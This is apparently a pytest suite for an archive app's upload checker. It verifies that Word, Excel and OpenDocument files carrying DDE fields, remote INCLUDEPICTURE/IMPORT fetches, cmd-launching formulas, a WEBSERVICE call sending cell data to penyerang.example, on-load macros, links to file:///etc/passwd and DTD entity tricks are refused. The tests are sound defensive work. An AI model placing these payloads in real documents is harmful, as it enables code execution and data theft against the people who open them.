"""Office documents are read, not only their declarations (issue 24, point 3).

A document passes its declarations ([Content_Types].xml, the relationships, the ODF
manifest) and still runs or fetches something when it opens: a Word field that starts
a program (DDE) or pulls in a file (INCLUDEPICTURE), a formula that talks to another
program, a web query, an ODF section linked to a file on the reader's disk. Each case
here is built in the test as the security review described it, inside an otherwise
ordinary document (samples.docx_document and friends), and goes through the upload
page; the ordinary documents themselves must keep passing.
"""

import io
import struct
import tracemalloc

import pytest
from django.urls import reverse

from arsip import office_check
from arsip.models import Softcopy, SoftcopyVersion
from arsip.validation import DOCX, ODT, XLSX

from . import samples
from .samples import REL, field, relation

WORD_FIELDS = "bidang (field)"
OUTSIDE = "di luar dirinya"
MACROS = "makro"
FORMULAS = "rumus"
WORKBOOK_FETCH = "koneksi data"
UNUSED = "tidak digunakannya"
ALT_CHUNK = "dokumen lain di dalamnya"
DAMAGED = "rusak"


@pytest.fixture
def upload(client, make_record, desk):
    record = make_record("collected")
    client.force_login(desk)
    url = reverse("arsip:upload", args=[record.pk])
    return lambda name, data: client.post(url, {"file": samples.upload(name, data)})


def refusal(response) -> str:
    page = samples.refused(response)
    assert not Softcopy.objects.exists() and not SoftcopyVersion.objects.exists()
    return " ".join(page.context["upload_form"].errors["file"])


# --- Ordinary documents pass ----------------------------------------------------------------


@pytest.mark.parametrize(
    "name,build,kind",
    [
        ("laporan.docx", samples.docx_document, DOCX),
        ("rekap.xlsx", samples.xlsx_workbook, XLSX),
        ("surat.odt", samples.odt_document, ODT),
    ],
)
def test_an_ordinary_document_with_fields_formulas_pictures_and_objects_is_accepted(
    upload, name, build, kind
):
    assert upload(name, build()).status_code == 302
    assert SoftcopyVersion.objects.get().content_type == kind


def test_a_relationship_target_written_absolute_or_percent_encoded_still_reaches_its_part(upload):
    data = samples.docx_document(
        rels=[
            relation("rId20", f"{REL}/image", "/word/media/logo%20baru.png"),
            relation("rId21", f"{REL}/image", "../word/media/ttd.png"),
        ],
        parts={"word/media/logo baru.png": samples.image(), "word/media/ttd.png": samples.image()},
    )
    assert upload("laporan.docx", data).status_code == 302


def test_a_large_sheet_is_read_streaming_not_held_in_memory():
    # Varied numbers keep the ratio a real sheet has (far below the bomb's 100).
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 100003}</v></c>'
        f'<c r="B{n}"><f>A{n}*{n % 97}+{n * 31 % 1009}</f><v>{n}</v></c></row>'
        for n in range(1, 90_000)
    )
    sheet = f'<worksheet xmlns="{samples.SHEET}"><sheetData>{rows}</sheetData></worksheet>'
    assert len(sheet) > 2 * office_check.XML_MAX  # the manifests' cap is not the content's
    data = samples.xlsx_workbook(parts={"xl/worksheets/sheet1.xml": sheet})
    tracemalloc.start()
    try:
        assert office_check.check(io.BytesIO(data)) == XLSX
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < len(sheet) / 4, peak


# --- Word: fields, and a document inside the document ---------------------------------------

DDEAUTO = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
LINK = 'link Excel.Sheet.12 "C:\\\\data.xlsx" Sheet1!R1C1 \\a'
INCLUDEPICTURE = 'INCLUDEPICTURE "\\\\\\\\penyerang\\\\berbagi\\\\x.png" \\d'


def split_field(*pieces: str) -> str:
    """A field whose code Word has split over several instrText runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


HOSTILE_WORD = {
    "DDEAUTO starting cmd.exe": samples.docx_document(body=f"<w:p>{field(DDEAUTO)}</w:p>"),
    "DDE in a simple field": samples.docx_document(
        body="<w:p><w:fldSimple w:instr=' DDE Excel \"C:\\\\a.xlsx\" R1C1 '/></w:p>"
    ),
    "INCLUDEPICTURE on a UNC path, in the header": samples.docx_document(
        header=f"<w:p>{field(INCLUDEPICTURE)}</w:p>"
    ),
    "INCLUDETEXT split over three runs": samples.docx_document(
        body=split_field("  INCL", "UDE", 'TEXT "https://penyerang.example/a.docx"')
    ),
    "LINK written in lower case": samples.docx_document(body=f"<w:p>{field(LINK)}</w:p>"),
    "IMPORT in a comment": samples.docx_document(
        parts={
            "word/comments.xml": (
                f'<w:comments xmlns:w="{samples.W}"><w:comment w:id="0"><w:p>'
                f"{field('IMPORT http://penyerang.example/a.wmf')}</w:p></w:comment></w:comments>"
            )
        }
    ),
    "INCLUDEPICTURE nested in an IF field's code": samples.docx_document(
        body=(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
            f"{field(INCLUDEPICTURE)}"
            '<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    ),
    "a field whose first word is made by a nested field": samples.docx_document(
        body=(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f"{field('QUOTE DDEAUTO', 'DDEAUTO')}"
            '<w:r><w:instrText xml:space="preserve"> cmd.exe "/k calc" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    ),
}


@pytest.mark.parametrize("case", HOSTILE_WORD)
def test_a_word_field_that_fetches_or_runs_something_is_refused(upload, case):
    message = refusal(upload("surat.docx", HOSTILE_WORD[case]))
    assert WORD_FIELDS in message and "PDF" in message


def test_an_rtf_chunk_merged_into_the_document_is_refused(upload):
    data = samples.docx_document(
        body='<w:altChunk r:id="rIdChunk"/>',
        rels=[relation("rIdChunk", f"{REL}/aFChunk", "afchunk.rtf")],
        types=['<Default Extension="rtf" ContentType="application/rtf"/>'],
        parts={"word/afchunk.rtf": "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}"},
    )
    assert ALT_CHUNK in refusal(upload("surat.docx", data))


def test_an_alt_chunk_element_is_refused_even_without_its_relationship(upload):
    data = samples.docx_document(body='<w:altChunk r:id="rId99"/>')
    assert ALT_CHUNK in refusal(upload("surat.docx", data))


# --- Excel: formulas that talk to other programs, data fetched on opening -------------------


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "'cmd'|'/c calc'!A0",
        "SUM(1)+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        '_xlfn.WEBSERVICE("https://penyerang.example/?d="&amp;A2)',
        'RTD("penyerang.server",,"x")',
    ],
)
def test_a_formula_that_starts_a_program_or_fetches_is_refused(upload, formula):
    message = refusal(upload("rekap.xlsx", samples.xlsx_workbook(formula=formula)))
    assert FORMULAS in message and "PDF" in message


def test_a_dde_reference_hidden_in_a_defined_name_is_refused(upload):
    workbook = (
        f'<workbook xmlns="{samples.SHEET}" xmlns:r="{samples.REL}"><sheets>'
        '<sheet name="Rekap" sheetId="1" r:id="rId1"/></sheets><definedNames>'
        "<definedName name=\"Jumlah\">cmd|'/C calc'!A0</definedName></definedNames></workbook>"
    )
    data = samples.xlsx_workbook(parts={"xl/workbook.xml": workbook})
    assert FORMULAS in refusal(upload("rekap.xlsx", data))


CONNECTIONS = (
    f'<connections xmlns="{samples.SHEET}"><connection id="1" name="Kueri" type="4" '
    'refreshOnLoad="1"><webPr url="https://penyerang.example/data"/></connection></connections>'
)

HOSTILE_WORKBOOKS = {
    "a web query refreshed on load": samples.xlsx_workbook(
        rels=[relation("rId9", f"{REL}/connections", "connections.xml")],
        parts={"xl/connections.xml": CONNECTIONS},
    ),
    "a connections part nothing declares": samples.xlsx_workbook(
        parts={"xl/connections.xml": CONNECTIONS}
    ),
    "a query table on the sheet": samples.xlsx_workbook(
        sheet_rels=[relation("rId2", f"{REL}/queryTable", "../queryTables/queryTable1.xml")],
        parts={
            "xl/queryTables/queryTable1.xml": (
                f'<queryTable xmlns="{samples.SHEET}" name="Kueri" connectionId="1"/>'
            )
        },
    ),
    "a link to another workbook": samples.xlsx_workbook(
        rels=[relation("rId9", f"{REL}/externalLink", "externalLinks/externalLink1.xml")],
        parts={
            "xl/externalLinks/externalLink1.xml": (
                f'<externalLink xmlns="{samples.SHEET}"><externalBook/></externalLink>'
            )
        },
    ),
    "an external link declared only by its type": samples.xlsx_workbook(
        types=[
            '<Override PartName="/xl/data/tautan.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
        ]
    ),
}


@pytest.mark.parametrize("case", HOSTILE_WORKBOOKS)
def test_a_workbook_that_fetches_data_when_it_opens_is_refused(upload, case):
    assert WORKBOOK_FETCH in refusal(upload("rekap.xlsx", HOSTILE_WORKBOOKS[case]))


# --- Every OOXML package: code by its name, and parts nothing uses --------------------------


@pytest.mark.parametrize(
    "kind,name",
    [
        ("docx", "word/vbaProject.bin"),
        ("docx", "word/VBAPROJECT.BIN"),
        ("xlsx", "xl/embeddings/oleObject1.bin"),
        ("docx", "word/activeX/activeX1.bin"),
        ("docx", "customXml/vbaProjectSignature.bin"),
    ],
)
def test_a_part_named_like_code_is_refused_though_nothing_declares_it(upload, kind, name):
    build = samples.docx_document if kind == "docx" else samples.xlsx_workbook
    data = build(parts={name: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
    assert MACROS in refusal(upload(f"berkas.{kind}", data)).lower()


@pytest.mark.parametrize(
    "parts",
    [
        {"word/media/payload.exe": samples.EXE},
        {"lampiran.pdf": samples.pdf()},
        # A part reached only from the relationships of a part nothing reaches.
        {
            "word/lain.xml": f'<w:document xmlns:w="{samples.W}"/>',
            "word/_rels/lain.xml.rels": samples.relationships(
                relation("rId1", f"{REL}/image", "media/image1.png")
            ),
        },
    ],
    ids=["an executable", "a second document", "an orphan with its own relationships"],
)
def test_a_part_that_no_relationship_reaches_is_refused(upload, parts):
    assert UNUSED in refusal(upload("surat.docx", samples.docx_document(parts=parts)))


def test_a_member_that_inflates_past_its_declared_size_is_cut_there_and_refused(upload):
    data = samples.docx_document(body="<w:p>" + samples.word_run("isi " * 5000) + "</w:p>")
    # Make the central directory say word/document.xml is 200 bytes: zipfile stops there.
    at = data.index(b"PK\x01\x02")
    while data[at + 46 : at + 46 + 17] != b"word/document.xml":
        at = data.index(b"PK\x01\x02", at + 4)
    data = data[: at + 24] + struct.pack("<I", 200) + data[at + 28 :]
    assert DAMAGED in refusal(upload("surat.docx", data))


def test_a_dtd_in_a_content_part_is_refused(upload):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "hahahahaha">]>'
        f'<w:document xmlns:w="{samples.W}"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    data = samples.docx_document(parts={"word/document.xml": laughs})
    assert DAMAGED in refusal(upload("surat.docx", data))


# --- OpenDocument text: scripts, OLE, DDE and links out of the document ---------------------

ON_LOAD_MACRO = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
    '?language=Basic&amp;location=document"/></office:event-listeners>'
)

HOSTILE_ODT = {
    "a macro run on load": (samples.odt_document(scripts=ON_LOAD_MACRO), MACROS),
    "a macro run by the embedded chart": (
        samples.odt_document(
            extra={
                "Object 1/content.xml": (
                    f"<office:document-content {samples.ODF_NAMES}><office:scripts>"
                    f"{ON_LOAD_MACRO}</office:scripts></office:document-content>"
                )
            }
        ),
        MACROS,
    ),
    "an OLE object": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame>'
            "</text:p>"
        ),
        MACROS,
    ),
    "a Java applet": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:applet draw:code="Jalan.class"/></draw:frame></text:p>'
        ),
        MACROS,
    ),
    "a DDE connection and field": (
        samples.odt_document(
            body=(
                "<text:dde-connection-decls><text:dde-connection-decl "
                'office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" '
                'office:dde-item="x"/></text:dde-connection-decls>'
                '<text:p><text:dde-connection text:connection-name="x"/></text:p>'
            )
        ),
        WORD_FIELDS,
    ),
    "a DDE section": (
        samples.odt_document(
            body=(
                '<text:section text:name="S1"><office:dde-source office:dde-application="soffice"'
                ' office:dde-topic="file:///etc/passwd" office:dde-item=""/></text:section>'
            )
        ),
        WORD_FIELDS,
    ),
    "a section linked to file:///etc/passwd": (
        samples.odt_document(
            body=(
                '<text:section text:name="S1"><text:section-source xlink:href='
                '"file:///etc/passwd" text:filter-name="Text"/></text:section>'
            )
        ),
        OUTSIDE,
    ),
    "a picture on an UNC path": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:image xlink:href="\\\\penyerang\\berbagi\\a.png"/>'
            "</draw:frame></text:p>"
        ),
        OUTSIDE,
    ),
    "a picture on a //host path": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:image xlink:href="//penyerang/berbagi/a.png"/>'
            "</draw:frame></text:p>"
        ),
        OUTSIDE,
    ),
    "a fill image from the web, in the styles": (
        samples.odt_document(
            styles='<draw:fill-image draw:name="Latar" '
            'xlink:href="https://penyerang.example/latar.png"/>'
        ),
        OUTSIDE,
    ),
    "an object from another file": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:object xlink:href="file:///C:/rahasia.ods"/>'
            "</draw:frame></text:p>"
        ),
        OUTSIDE,
    ),
    "a floating frame showing a web page": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:floating-frame xlink:href="http://penyerang.example/"/>'
            "</draw:frame></text:p>"
        ),
        OUTSIDE,
    ),
    "a plugin playing a file from the web": (
        samples.odt_document(
            body='<text:p><draw:frame><draw:plugin xlink:href="https://penyerang.example/a.mp4"/>'
            "</draw:frame></text:p>"
        ),
        OUTSIDE,
    ),
}


@pytest.mark.parametrize("case", HOSTILE_ODT)
def test_an_odt_that_runs_or_fetches_something_is_refused(upload, case):
    data, says = HOSTILE_ODT[case]
    assert says in refusal(upload("surat.odt", data)).lower()


def test_a_dtd_in_odt_content_is_refused(upload):
    content = (
        '<?xml version="1.0"?><!DOCTYPE office:document-content SYSTEM "file:///etc/passwd">'
        f'<office:document-content xmlns:office="{samples.OFFICE}"/>'
    )
    data = samples.odt_document(extra={"content.xml": content})
    assert DAMAGED in refusal(upload("surat.odt", data))


@pytest.mark.parametrize(
    "name,build", [("rekap.xlsx", samples.xlsx_workbook), ("surat.odt", samples.odt_document)]
)
def test_a_document_with_more_text_than_can_be_read_in_time_is_refused(
    upload, monkeypatch, name, build
):
    # The bound is 200 MB of XML; lowered here so that a small document stands for a huge one.
    monkeypatch.setattr(office_check, "CONTENT_MAX", 1000)
    assert "lebih banyak daripada yang dapat diperiksa" in refusal(upload(name, build()))
